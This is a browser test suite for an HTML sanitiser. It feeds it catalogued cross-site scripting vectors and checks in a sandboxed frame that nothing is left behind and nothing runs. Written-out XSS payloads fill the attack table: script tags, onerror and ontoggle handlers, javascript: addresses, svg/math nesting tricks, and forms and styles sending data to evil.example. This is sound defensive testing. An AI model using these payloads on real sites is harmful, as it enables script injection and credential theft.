import { expect, nextFrame } from '@open-wc/testing';
import type { HtmlProfile } from '#domain/htmlRules.ts';
import { deepestMarkup } from '#domain/richText.ts';
import { waitUntil } from '#ui/testing/waitUntil.ts';
import { sanitise } from './html.ts';
import { htmlWords } from './htmlWords.ts';

const profiles = ['content', 'user'] as const;
const mediaHosts = ['media.example'];
const clean = (html: string, profile: HtmlProfile = 'content') => sanitise(html, { profile, mediaHosts });

function markup(content: DocumentFragment): string {
  const box = document.implementation.createHTMLDocument().createElement('div');
  box.append(content);
  return box.innerHTML;
}

/** Element names S2 wants kept, and those that do no harm. Written down here, not taken from the sanitiser. */
const known = new Set(
  [
    'p li ul ol table caption thead tbody tfoot tr td th colgroup col strong em b i u s del ins code pre kbd samp var',
    'br wbr hr h1 h2 h3 h4 h5 h6 blockquote dl dt dd div span sub sup details summary a img figure figcaption mark',
    'small abbr cite q dfn time data bdi bdo ruby rb rt rp address article aside section nav header footer hgroup',
    'acronym big center font strike tt nobr dir menu',
  ]
    .join(' ')
    .split(' '),
);
const schemes = /^(?:https?|mailto|tel|callto|sms|cid|xmpp|matrix|ftps?):/i;
const linkSchemes = /^(?:https?|mailto|tel):/i;

/** Everything about the nodes that S1 forbids. */
function problemsOf(content: ParentNode, profile: HtmlProfile): string[] {
  return [...content.querySelectorAll('*')].flatMap((element) => [
    ...(element.namespaceURI === 'http://www.w3.org/1999/xhtml' && known.has(element.localName)
      ? []
      : [`<${element.localName}>`]),
    ...[...element.attributes].flatMap((attribute) => problemsOfAttribute(element, attribute, profile)),
  ]);
}

function problemsOfAttribute(element: Element, { name, value }: Attr, profile: HtmlProfile): string[] {
  const at = `${element.localName} ${name}="${value}"`;
  if (/^on|^(style|srcset|is|slot|part|nonce|background|poster|action|formaction|ping|tabindex)$/.test(name))
    return [at];
  if (/^data-|popover|command/.test(name)) return [at];
  if (profile === 'user' && /^(class|id|name)$/.test(name)) return [at];
  if (/^(id|name)$/.test(name) && !value.startsWith('user-content-')) return [at];
  if (name === 'class' && /(^|\s)hc-/i.test(value)) return [at];
  if (name === 'src' && new URL(value, document.baseURI).host !== window.location.host) {
    return profile === 'content' && new URL(value, document.baseURI).host === 'media.example' ? [] : [at];
  }
  // As the browser reads it: without the white space and control characters it ignores in a scheme.
  // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what hides a scheme
  const scheme = /^[a-z][a-z0-9+.-]*:/i.exec(value.replaceAll(/[\u0000-\u0020]/g, ''))?.[0];
  if (name === 'href' && scheme && !linkSchemes.test(scheme)) return [at];
  if (/^(src|cite|longdesc|xlink:href)$/.test(name) && scheme && !schemes.test(scheme)) return [at];
  return [];
}

/** A document of its own in which nothing is fetched; what runs there is noted. */
const selfRunning =
  '<img src="data:," onerror="alert(`end of images`)"><details open ontoggle="alert(`end of toggles`)"></details>';

interface Room {
  readonly body: HTMLElement;
  readonly ran: string[];
  /** Waits until what stands there has loaded or failed, and what runs by itself has run: that of its own, put there last, too. */
  settled(): Promise<void>;
  close(): void;
}

async function openRoom(): Promise<Room> {
  const frame = document.createElement('iframe');
  frame.srcdoc = `<!doctype html><meta http-equiv="Content-Security-Policy" content="img-src data:; media-src 'none'; frame-src 'none'; connect-src 'none'"><body>`;
  document.body.append(frame);
  await new Promise((loaded) => frame.addEventListener('load', loaded, { once: true }));
  const ran: string[] = [];
  const pageWindow = frame.contentWindow as (Window & Record<string, unknown>) | null;
  const body = frame.contentDocument?.body;
  if (!pageWindow || !body) throw new Error('the frame has no document');
  for (const name of ['alert', 'confirm', 'prompt', 'print', 'open', 'eval']) {
    pageWindow[name] = (text: unknown) => void ran.push(`${name}(${String(text)})`);
  }
  const settled = async () => {
    const images = [...body.querySelectorAll('img')];
    // Out of sight it would never load.
    for (const image of images) image.loading = 'eager';
    body.insertAdjacentHTML('beforeend', selfRunning);
    await waitUntil(() => images.every(({ complete }) => complete), 'all images have loaded or failed');
    for (const mark of ['alert(end of images)', 'alert(end of toggles)']) {
      await waitUntil(() => ran.includes(mark), mark);
      ran.splice(ran.indexOf(mark), 1);
    }
  };
  return { body, ran, settled, close: () => frame.remove() };
}

const attacks: Readonly<Record<string, readonly string[]>> = {
  scripts: [
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '<script type="speculationrules">{}</script>',
    '<noscript><p title="</noscript><img src=data: onerror=alert(1)>">',
  ],
  'event handlers': [
    '<img src=data: onerror=alert(1)>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<p onpointerrawupdate=alert(1) onbeforematch=alert(1) hidden=until-found>x</p>',
    '<body onload=alert(1)><a onfocus=alert(1) autofocus tabindex=0 href=#>x</a>',
  ],
  'forms and controls': [
    '<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>Sign in</button></form>',
    '<label>Card<select><option>1</select></label><textarea></textarea><dialog open>Sign in</dialog>',
    '<button popovertarget=x command=show-modal commandfor=x>x</button><div popover id=x>x</div>',
  ],
  'styles that cover the page or send data': [
    '<style>*{background:url(//evil.example)}</style>',
    '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
    '<link rel=stylesheet href=//evil.example><table background=//evil.example><tr><td>x</table>',
  ],
  'the look of our own parts': [
    '<a class="hc-button hc-button--primary" href="https://evil.example">Sign In</a>',
    '<div class="HC-dialog other">x</div><p part="title" slot="x" exportparts="a">x</p><slot></slot>',
  ],
  'ids and names that shadow the page’s own': [
    '<a id=body name=cookie href=x>x</a><img name=getElementById src=data:>',
    '<a id=hc-config></a><a id=hc-config name=transport href=//evil.example></a><p id=__proto__>x</p>',
  ],
  'svg and math': [
    '<svg onload=alert(1)><script>alert(1)</script><use href="data:image/svg+xml,x#y"/></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi><mtext><table><mglyph><style><img src=data: onerror=alert(1)>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  ],
  'templates, frames and custom elements': [
    '<template><script>alert(1)</script><img src=data: onerror=alert(1)></template>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data=javascript:alert(1)></object><embed src=x>',
    '<hc-article article-id=x></hc-article><p is=hc-shell>x</p><base href=//evil.example><meta http-equiv=refresh content=0>',
  ],
  'other ways to load': [
    '<img srcset="//evil.example/x 1x" src="//evil.example/y"><picture><source srcset=//evil.example><img></picture>',
    '<video src=//evil.example poster=//evil.example></video><audio src=//evil.example></audio>',
    '<a ping=//evil.example href=/x>x</a><input type=image src=//evil.example><map><area href=//evil.example></map>',
  ],
  'script and data addresses': [
    '<a href="javascript:alert(1)">x</a><a href="JaVa&#09;ScRiPt:alert(1)">x</a><a href="&#1;javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a><a href="vbscript:x">x</a><a href="blob:x">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>"><img src="javascript:alert(1)"><a href="file:///etc">x</a>',
  ],
};

describe('the sanitiser', () => {
  for (const [name, vectors] of Object.entries(attacks)) {
    it(`leaves nothing of ${name}`, async () => {
      const room = await openRoom();
      for (const profile of profiles) {
        for (const vector of vectors) {
          expect(problemsOf(clean(vector, profile), profile), `${profile}: ${vector}`).to.deep.equal([]);
          room.body.append(clean(vector, profile));
        }
      }
      await room.settled();
      expect(room.ran).to.deep.equal([]);
      room.close();
    });
  }

  it('is watched by a check that sees what runs unsanitised', async () => {
    const room = await openRoom();
    room.body.innerHTML = '<img src="data:," onerror="alert(1)"><details open ontoggle="alert(2)"></details>';
    await waitUntil(() => room.ran.length === 2, 'the attacks ran');
    expect(problemsOf(room.body, 'content')).to.have.length(3);
    room.close();
  });

  it('keeps an image of the own site where the elements stand on it, and no other site is named', () => {
    const own = '<img src="/media/a.png" alt="">';
    for (const more of [{}, { base: '' }])
      expect(markup(sanitise(own, { profile: 'content', mediaHosts, ...more }))).to.contain('/media/a.png');
  });

  it('changes nothing the second time', () => {
    const vectors = Object.values(attacks).flat();
    for (const profile of profiles) {
      for (const vector of [...vectors, ...generated(2000)]) {
        const made = clean(vector, profile);
        expect(problemsOf(made, profile), vector).to.deep.equal([]);
        const once = markup(made);
        expect(markup(clean(once, profile)), vector).to.equal(once);
      }
    }
  });

  it('gives a fragment also for what nothing remains of', () => {
    expect(markup(clean('<frameset><frame src=x></frameset>'))).to.equal('');
  });

  it('settles what is nested beyond sense', () => {
    const nested = '<p><table><tr><td><a href=x>'.repeat(40);
    const once = markup(clean(nested));
    expect(markup(clean(once))).to.equal(once);
  });

  it('keeps the words of what is nested too deep, and no elements', () => {
    const levels = deepestMarkup + 5;
    const shown = clean(
      `<ul><li>${'<i>'.repeat(levels)}a<b>b</b>${'</i>'.repeat(levels)}c</li></ul><p>d</p>`,
    );
    expect(shown.textContent).to.equal('abcd');
    expect(shown.querySelectorAll('i').length).to.equal(deepestMarkup - 2);
    expect(shown.querySelector('b')).to.equal(null);
    expect(shown.querySelector('p')?.textContent).to.equal('d');
    for (const tag of ['b', 'div', 'blockquote', 'ul']) {
      const deep = clean(`<${tag}>`.repeat(5000).concat('words'));
      expect(deep.textContent).to.equal('words');
    }
  });

  it('lets links lead where they say, and nowhere else', () => {
    const shown = clean(
      '<a href="/\\evil.example">a</a><a href="https:\\\\evil.example">b</a><a href="/&#9;/evil.example">c</a>' +
        '<a href="sms:123">d</a><a href="//files.example/x.pdf">e</a><a href="/glossary">f</a>',
    );
    const links = [...shown.querySelectorAll('a')].map((link) => link.getAttribute('href'));
    expect(links).to.deep.equal([null, null, null, null, 'https://files.example/x.pdf', '/glossary']);
  });

  it('leaves the prototype of objects alone', () => {
    const before = Object.keys(Object.prototype);
    clean('<p id="__proto__" name="constructor" class="prototype">x</p><a id="hasOwnProperty">x</a>');
    expect(Object.keys(Object.prototype)).to.deep.equal(before);
  });

  it('lets images come only from the site and its media hosts, and for users only from the site', () => {
    const images =
      '<img src="https://media.example/a.png" alt="A"><img src="/b.png"><img src="//evil.example/c.png">';
    const sources = (profile: HtmlProfile) =>
      [...clean(images, profile).querySelectorAll('img')].map((image) => image.getAttribute('src'));
    expect(sources('content')).to.deep.equal(['https://media.example/a.png', '/b.png', null]);
    expect(sources('user')).to.deep.equal([null, '/b.png', null]);
  });
});

describe('what content keeps', () => {
  const kept = [
    '<h2>Head</h2><h3>Sub</h3><p>One<br>two <strong>bold</strong> <em>soft</em> <b>b</b> <i>i</i></p>',
    '<ul><li>a</li></ul><ol start="3"><li value="5">b</li></ol>',
    '<table><caption>c</caption><colgroup><col span="2"></colgroup><thead><tr><th scope="col" colspan="2">h</th></tr></thead><tbody><tr><td rowspan="2">d</td><td>e</td></tr></tbody></table>',
    '<p><kbd>Ctrl</kbd> <code>x</code> <sub>1</sub> <sup>2</sup></p><pre><code>a\n  b</code></pre><blockquote>q</blockquote>',
    '<dl><dt>t</dt><dd>d</dd></dl><details open=""><summary>s</summary>more</details><hr>',
    '<figure><img src="/a.png" alt="A picture" width="720" height="400"><figcaption>c</figcaption></figure>',
    '<div class="alert alert-note"><p lang="de" dir="ltr">x</p></div>',
    '<p><a href="/article?articleId=1#part">in</a> <a href="mailto:a@b.example">mail</a> <a href="/x.csv" download="">file</a></p>',
  ];
  for (const html of kept) {
    it(`keeps ${html.slice(0, 60)}`, () => expect(markup(clean(html))).to.equal(html));
  }

  it('keeps the names of anchors, where they can’t shadow anything', () => {
    expect(markup(clean('<h2><a name="ways"></a>Ways</h2><p id="part">x</p>'))).to.equal(
      '<h2><a name="user-content-ways"></a>Ways</h2><p id="user-content-part">x</p>',
    );
  });

  it('keeps the words of what it takes away', () => {
    expect(clean('<form><label>Name <b>first</b></label></form><center>mid</center>').textContent).to.equal(
      'Name firstmid',
    );
  });

  it('opens targets in a new tab that knows nothing of this one', () => {
    expect(markup(clean('<a href="https://x.example" target="top">x</a>'))).to.equal(
      '<a href="https://x.example" target="_blank" rel="noopener noreferrer">x</a>',
    );
  });

  it('takes odd texts without complaint', () => {
    for (const text of ['', ' ', 'plain & simple', '\ud800', '<', '</p>', '<p', '\u0000<b>x</b>']) {
      expect(() => clean(text), JSON.stringify(text)).not.to.throw();
    }
    expect(clean('plain').textContent).to.equal('plain');
  });
});

interface Vector {
  readonly id: string;
  readonly payload: string;
}

const corpus = await readCorpus();

describe('the sanitiser against known attacks', function () {
  this.timeout(120_000);
  if (corpus)
    for (const profile of profiles) {
      it(`lets nothing through and runs nothing (${profile})`, async () => {
        const room = await openRoom();
        const bad: string[] = [];
        for (const { id, payload } of corpus) {
          const content = clean(payload, profile);
          const problems = problemsOf(content, profile);
          const once = markup(clean(payload, profile));
          if (problems.length > 0) bad.push(`${id}: ${problems.join(', ')}`);
          if (markup(clean(once, profile)) !== once) bad.push(`${id}: changes again`);
          room.body.append(content);
        }
        await room.settled();
        expect(bad).to.deep.equal([]);
        expect(room.ran).to.deep.equal([]);
        room.close();
      });
    }
  else
    it.skip('lets nothing through and runs nothing: ../shared/corpus/xss.json is not beside this checkout');
});

async function readCorpus(): Promise<Vector[] | null> {
  const answer = (await (await fetch('/hc-test/vectors.json')).json()) as { vectors: Vector[] } | null;
  return answer?.vectors ?? null;
}

/** Pieces of markup in every order that a fixed seed gives. */
function generated(count: number): string[] {
  const pieces =
    '<p>|</p>|<b id=x>|</b>|<table>|<tr>|<td>|</table>|<svg>|</svg>|<math>|<mtext>|<style>|</style>|<!--|-->|<template>|</template>|<a href="javascript:x">|<a name=y>|</a>|<img src=x onerror=y>|<form>|</form>|<select>|<noscript>|</noscript>|<ul>|<li>|text|&lt;|<![CDATA[|]]>|<details>|<summary>|<title>|</title>|"|\'|>|='.split(
      '|',
    );
  let seed = 1;
  const next = () => {
    seed = (seed * 48_271) % 2_147_483_647;
    return seed;
  };
  return Array.from({ length: count }, () =>
    Array.from({ length: 2 + (next() % 10) }, () => pieces[next() % pieces.length]).join(''),
  );
}

describe('the words of HTML of others', () => {
  it('are those a page shows, block from block, and nothing of it runs or loads', async () => {
    const hostile = '<script>window.ran = true</script><img src="/nothing.png" onerror="window.ran = true">';
    expect(htmlWords(`<p>Pay &amp; <b>ti</b>me</p><ul><li>one</li><li>two</li></ul>${hostile}`)).to.equal(
      'Pay & time one two',
    );
    expect(htmlWords('<style>p{}</style><p>a<svg><title>x</title></svg></p><template>t</template>')).to.equal(
      'a',
    );
    await nextFrame();
    expect('ran' in window).to.equal(false);
  });
});
